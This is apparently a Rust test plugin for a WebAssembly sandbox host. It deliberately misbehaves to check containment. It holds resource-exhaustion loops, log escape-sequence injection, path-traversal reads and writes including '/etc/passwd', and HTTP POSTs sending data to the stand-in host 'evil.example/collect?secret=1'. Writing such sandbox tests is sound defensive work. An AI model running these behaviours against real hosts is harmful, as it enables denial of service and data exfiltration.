//! What it does to the host itself, in `check`.

use crate::behaviour::Behaviour;
use crate::bindings::sluice::plugin::files::{FileError, Readable, Writable};
use crate::bindings::sluice::plugin::log::{self, Level};
use crate::bindings::sluice::plugin::types::{Fault, Transient};
use crate::{lies, setting, web};
use std::hint::black_box;

pub fn check(behaviour: Behaviour, config: &str) -> Result<(), Fault> {
    let dir = setting(config, "dir");
    match behaviour {
        Behaviour::Loop => loop {
            black_box(0);
        },
        Behaviour::Allocate => {
            let mut kept: Vec<Vec<u8>> = Vec::new();
            loop {
                kept.push(vec![1; 1 << 20]);
                black_box(&kept);
            }
        }
        Behaviour::Recurse => {
            black_box(recurse(1));
        }
        Behaviour::Panic => panic!("the number is {}\u{1b}[2J", 42),
        Behaviour::PanicAtLength => panic!("{} the end", "x".repeat(1 << 20)),
        Behaviour::Exit => std::process::exit(7),
        Behaviour::Sleep => std::thread::sleep(std::time::Duration::from_hours(1)),
        Behaviour::StderrFlood => {
            for line in 0..10_000 {
                eprintln!("line {line} of many, each of them longer than need be");
            }
        }
        Behaviour::Random => {
            black_box(wasip2::random::random::get_random_bytes(1 << 30));
        }
        Behaviour::LogFlood => {
            for line in 0..5_000 {
                log::write(Level::Info, &format!("line {line}"), &[]);
            }
        }
        Behaviour::LogControl => {
            let field = ("user".to_owned(), "\u{202e}gnp.exe\r\n".to_owned());
            log::write(Level::Error, "cleared \u{1b}[2J", &[field]);
            log::write(Level::Info, &"long ".repeat(100_000), &[]);
        }
        Behaviour::LogHuge => log::write(Level::Info, &"x".repeat(100 << 20), &[]),
        Behaviour::HandleLeak => {
            for _ in 0..10_000 {
                std::mem::forget(Readable::open(&dir).map_err(told)?);
            }
        }
        Behaviour::LookAround => return Err(Fault::Broken(look_around())),
        Behaviour::Sockets => return Err(Fault::Broken(sockets())),
        Behaviour::DirNotGranted => {
            Readable::open("/etc").map_err(told)?;
        }
        Behaviour::DirNotWritable => {
            Writable::open(&dir).map_err(told)?;
        }
        Behaviour::PathEscape => return Err(Fault::Broken(path_escape(&dir)?)),
        Behaviour::WriteEscape => return Err(Fault::Broken(write_escape(&dir)?)),
        Behaviour::Fifo => {
            let listed = Readable::open(&dir).map_err(told)?;
            listed.read("fifo", 0, 10).map_err(told)?;
        }
        Behaviour::HttpNotGranted | Behaviour::HttpEager => send(behaviour)?,
        Behaviour::RequestsUnanswered => open_many()?,
        Behaviour::HeaderHuge => {
            let fields = wasip2::http::types::Fields::new();
            let _ = fields.append("x-huge", &vec![b'x'; 100_000]);
        }
        Behaviour::HeaderFlood => {
            let fields = wasip2::http::types::Fields::new();
            for number in 0..100_000 {
                let _ = fields.append(&format!("x-{number}"), b"value");
            }
        }
        Behaviour::FaultText => {
            return Err(Fault::Broken(format!("\u{7}{}", "no ".repeat(100_000))));
        }
        Behaviour::PathLong => {
            let listed = Readable::open(&dir).map_err(told)?;
            listed.read(&"a/".repeat(1 << 19), 0, 10).map_err(told)?;
        }
        Behaviour::ReadHuge => {
            let listed = Readable::open(&dir).map_err(told)?;
            let sizes = [(0, u32::MAX), (u64::MAX, u32::MAX), (1 << 40, 1)].map(|(at, max)| {
                listed
                    .read(".sparse", at, max)
                    .map(|bytes| bytes.len().to_string())
            });
            let sizes: Result<Vec<_>, _> = sizes.into_iter().collect();
            return Err(Fault::Broken(sizes.map_err(told)?.join(" ")));
        }
        Behaviour::Device => {
            let devices = Readable::open(&dir).map_err(told)?;
            let outcomes =
                ["zero", "random", "tty", "null"].map(|name| outcome(&devices.read(name, 0, 10)));
            return Err(Fault::Broken(outcomes.join(" ")));
        }
        Behaviour::HardLink => {
            let dir = Writable::open(&dir).map_err(told)?;
            return Err(Fault::Broken(outcome(&dir.create("hard-link")).to_owned()));
        }
        Behaviour::DirNotUtf8 => {
            Readable::open(&lies::not_utf8()).map_err(told)?;
        }
        _ => {
            storm(behaviour, &dir);
            trap(behaviour);
            say(behaviour)?;
            return web::check(behaviour, config);
        }
    }
    Ok(())
}

/// One call of the host after the other.
fn storm(behaviour: Behaviour, dir: &str) {
    use wasip2::clocks::monotonic_clock;
    match behaviour {
        Behaviour::ClockStorm => loop {
            black_box(monotonic_clock::now());
        },
        Behaviour::LogStorm => loop {
            log::write(Level::Info, "again", &[]);
        },
        Behaviour::ListStorm => loop {
            let _ = black_box(Readable::open(dir).map(|dir| dir.list()));
        },
        Behaviour::RequestStorm => {
            for number in 0_u64.. {
                black_box(ask(&format!("/collect/{number}")));
            }
        }
        Behaviour::PollNothing => {
            black_box(wasip2::io::poll::poll(&[]));
        }
        Behaviour::PollForEver => monotonic_clock::subscribe_duration(u64::MAX).block(),
        Behaviour::PollFlood => {
            for _ in 0..10_000 {
                std::mem::forget(monotonic_clock::subscribe_duration(1));
            }
        }
        Behaviour::RequestLeak => {
            for _ in 0..10_000 {
                let fields = wasip2::http::types::Fields::new();
                std::mem::forget(wasip2::http::types::OutgoingRequest::new(fields));
            }
        }
        _ => {}
    }
}

fn trap(behaviour: Behaviour) {
    match behaviour {
        Behaviour::Abort => core::arch::wasm32::unreachable(),
        Behaviour::ReadOutside => {
            black_box(lies::read_outside());
        }
        Behaviour::CallOutside => lies::call_outside(),
        _ => {}
    }
}

/// What it says, and how.
fn say(behaviour: Behaviour) -> Result<(), Fault> {
    match behaviour {
        Behaviour::Stdio => {
            use std::io::Read as _;
            let mut heard = Vec::new();
            let read = std::io::stdin().read_to_end(&mut heard);
            for line in 0..10_000 {
                println!("line {line} of many, each of them longer than need be");
            }
            Err(Fault::Broken(format!("{read:?} {}", heard.len())))
        }
        Behaviour::LogGibibyte => {
            let text = std::mem::ManuallyDrop::new(lies::gibibyte_text());
            log::write(Level::Info, &text, &[]);
            Ok(())
        }
        Behaviour::LogNotUtf8 => {
            log::write(Level::Info, &lies::not_utf8(), &[]);
            Ok(())
        }
        Behaviour::LogFields => {
            let fields = vec![("name".to_owned(), "value".to_owned()); 100_000];
            log::write(Level::Info, "many fields:", &fields);
            Ok(())
        }
        Behaviour::FaultNotUtf8 => Err(Fault::Broken(lies::not_utf8())),
        Behaviour::RequestTexts => {
            let request =
                || wasip2::http::types::OutgoingRequest::new(wasip2::http::types::Fields::new());
            let long = "a".repeat(1 << 20);
            let host = request().set_authority(Some(&long));
            let method = request().set_method(&wasip2::http::types::Method::Other(long));
            let short = wasip2::http::types::Method::Other("PURGE".to_owned());
            let short = request().set_method(&short);
            Err(Fault::Broken(format!("{host:?} {method:?} {short:?}")))
        }
        Behaviour::RequestBodies => {
            let fields = wasip2::http::types::Fields::new();
            let request = wasip2::http::types::OutgoingRequest::new(fields);
            let body = request.body().expect("a body");
            let stream = body.write().expect("a stream");
            let mut taken = 0;
            while let Ok(room @ 1..) = stream.check_write() {
                let bytes = vec![b'a'; usize::try_from(room).unwrap_or(1)];
                if stream.write(&bytes).is_err() {
                    break;
                }
                taken += room;
            }
            Err(Fault::Broken(format!("{taken} bytes were taken")))
        }
        Behaviour::FaultGibibyte => Err(Fault::Broken(lies::gibibyte_text())),
        Behaviour::RetryLate => Err(Fault::Transient(Transient {
            message: "later".to_owned(),
            retry_after_ms: Some(u64::MAX),
        })),
        Behaviour::HttpLong => Err(ask(&"a".repeat(60_000))),
        _ => Ok(()),
    }
}

/// A request without a body to a host that is not granted. Gives what came of it.
fn ask(path: &str) -> Fault {
    use wasip2::http::outgoing_handler::handle;
    use wasip2::http::types::{ErrorCode, Fields, OutgoingRequest, Scheme};
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_scheme(Some(&Scheme::Https));
    let _ = request.set_authority(Some("evil.example"));
    let _ = request.set_path_with_query(Some(&format!("/{path}")));
    let error = match handle(request, None) {
        Ok(answer) => {
            answer.subscribe().block();
            match answer.get() {
                Some(Ok(Err(error))) => error,
                _ => return Fault::Broken("it was answered".to_owned()),
            }
        }
        Err(error) => error,
    };
    match error {
        ErrorCode::InternalError(Some(text)) => match text.strip_prefix("denied: ") {
            Some(text) => Fault::Denied(text.to_owned()),
            None => Fault::Broken(text),
        },
        other => Fault::Broken(format!("{other:?}")),
    }
}

fn recurse(depth: u64) -> u64 {
    let frame = [depth; 64];
    if depth == 0 {
        0
    } else {
        black_box(recurse(black_box(depth + 1))) + black_box(frame)[1]
    }
}

fn told(error: FileError) -> Fault {
    match error {
        FileError::Denied(text) => Fault::Denied(text),
        other => Fault::Broken(format!("{other:?}")),
    }
}

fn look_around() -> String {
    let variables = std::env::vars().count();
    let arguments = std::env::args().count();
    let root = std::fs::read_dir("/").is_ok();
    let passwd = std::fs::read("/etc/passwd").is_ok();
    let socket = std::net::TcpStream::connect("127.0.0.1:1").is_ok();
    let name = std::net::ToSocketAddrs::to_socket_addrs("localhost:1").is_ok();
    format!("{variables} {arguments} {root} {passwd} {socket} {name}")
}

/// What came of each call of `wasi:sockets` that needs no socket.
fn sockets() -> String {
    use wasip2::sockets::instance_network::instance_network;
    use wasip2::sockets::ip_name_lookup::resolve_addresses;
    use wasip2::sockets::network::{ErrorCode, IpAddressFamily};
    use wasip2::sockets::tcp_create_socket::create_tcp_socket;
    use wasip2::sockets::udp_create_socket::create_udp_socket;
    let word =
        |outcome: Result<(), ErrorCode>| outcome.map_or_else(|code| code.name(), |()| "done");
    let outcomes = [
        create_tcp_socket(IpAddressFamily::Ipv4).map(drop),
        create_tcp_socket(IpAddressFamily::Ipv6).map(drop),
        create_udp_socket(IpAddressFamily::Ipv4).map(drop),
        create_udp_socket(IpAddressFamily::Ipv6).map(drop),
        resolve_addresses(&instance_network(), "localhost").map(drop),
    ];
    outcomes.map(word).join(" ")
}

/// What came of each path: `refused` where the host said that the path cannot be used.
fn path_escape(dir: &str) -> Result<String, Fault> {
    let dir = Readable::open(dir).map_err(told)?;
    let paths = [
        "../secret",
        "/etc/passwd",
        "a/../../secret",
        "link-out",
        "link-dir/secret",
        "",
        ".",
        "a//b",
        "sub",
    ];
    let outcomes = paths.map(|path| outcome(&dir.read(path, 0, 10)));
    let listed = dir.list().map_err(told)?;
    let names: Vec<_> = listed.iter().map(|entry| entry.path.as_str()).collect();
    Ok(format!("{} | {}", outcomes.join(" "), names.join(" ")))
}

fn write_escape(dir: &str) -> Result<String, Fault> {
    let dir = Writable::open(dir).map_err(told)?;
    let outcomes = [
        outcome(&dir.create("../made")),
        outcome(&dir.create("/tmp/made")),
        outcome(&dir.create("link-dir/made")),
        outcome(&dir.create("link-out")),
        outcome(&dir.create("fifo")),
        outcome(&dir.create("sub")),
        outcome(&dir.rename("plain", "../moved")),
        outcome(&dir.rename("plain", "link-dir/moved")),
        outcome(&dir.rename("sub", "moved")),
        outcome(&dir.remove("sub")),
        outcome(&dir.remove("../secret")),
    ];
    Ok(outcomes.join(" "))
}

fn outcome<T>(result: &Result<T, FileError>) -> &'static str {
    match result {
        Ok(_) => "done",
        Err(FileError::Invalid(_)) => "refused",
        Err(FileError::Denied(_)) => "denied",
        Err(FileError::NotFound(_)) => "missing",
        Err(FileError::Transient(_)) => "transient",
        Err(FileError::Other(_)) => "other",
    }
}

/// A request with a body that is larger than any buffer, so that a host that only drops it would be seen.
fn send(behaviour: Behaviour) -> Result<(), Fault> {
    use wasip2::http::outgoing_handler::handle;
    use wasip2::http::types::{ErrorCode, Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
    let broken = |what: &str| Fault::Broken(what.to_owned());
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_method(&Method::Post);
    let _ = request.set_scheme(Some(&Scheme::Https));
    let _ = request.set_authority(Some("evil.example"));
    let _ = request.set_path_with_query(Some("/collect?secret=1"));
    let body = request.body().map_err(|()| broken("no body"))?;
    let answer = handle(request, None).map_err(|error| Fault::Broken(format!("{error:?}")))?;
    if behaviour == Behaviour::HttpEager {
        answer.subscribe().block();
    }
    {
        let stream = body.write().map_err(|()| broken("no stream"))?;
        for _ in 0..64 {
            stream
                .blocking_write_and_flush(&[0; 4096])
                .map_err(|error| broken(&format!("write: {error:?}")))?;
        }
    }
    OutgoingBody::finish(body, None).map_err(|error| broken(&format!("finish: {error:?}")))?;
    answer.subscribe().block();
    match answer.get() {
        Some(Ok(Err(ErrorCode::InternalError(Some(text))))) => {
            match text.strip_prefix("denied: ") {
                Some(text) => Err(Fault::Denied(text.to_owned())),
                None => Err(Fault::Broken(text)),
            }
        }
        Some(Ok(Err(other))) => Err(Fault::Broken(format!("{other:?}"))),
        _ => Ok(()),
    }
}

/// As many requests as an instance may have open, and one more, whose outcome it tells.
fn open_many() -> Result<(), Fault> {
    use wasip2::http::outgoing_handler::handle;
    use wasip2::http::types::{ErrorCode, Fields, OutgoingRequest, Scheme};
    let mut answers = Vec::new();
    for _ in 0..=16 {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_scheme(Some(&Scheme::Https));
        let _ = request.set_authority(Some("evil.example"));
        let _ = request.set_path_with_query(Some("/"));
        let answer = handle(request, None);
        answers.push(answer.map_err(|error| Fault::Broken(format!("{error:?}")))?);
    }
    let last = &answers[16];
    last.subscribe().block();
    match last.get() {
        Some(Ok(Err(ErrorCode::InternalError(Some(text))))) => Err(Fault::Denied(text)),
        Some(Ok(Err(other))) => Err(Fault::Broken(format!("{other:?}"))),
        _ => Ok(()),
    }
}
